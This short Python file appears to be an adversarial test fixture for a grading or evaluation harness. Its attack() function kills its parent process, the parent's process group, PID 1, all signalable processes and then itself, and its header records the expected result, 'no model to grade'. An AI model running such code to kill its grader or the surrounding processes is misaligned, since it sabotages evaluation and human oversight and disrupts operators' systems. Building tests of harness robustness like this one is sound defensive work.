# Kills its parent, its process group and every other process that it may, then itself.
# Reported: no model to grade
import os
import signal


def attack():
    for end, pid in ((os.kill, os.getppid()), (os.killpg, os.getppid()), (os.killpg, 1), (os.kill, 1), (os.kill, -1)):
        try:
            end(pid, signal.SIGKILL)
        except (PermissionError, ProcessLookupError):
            pass
    os.killpg(0, signal.SIGKILL)
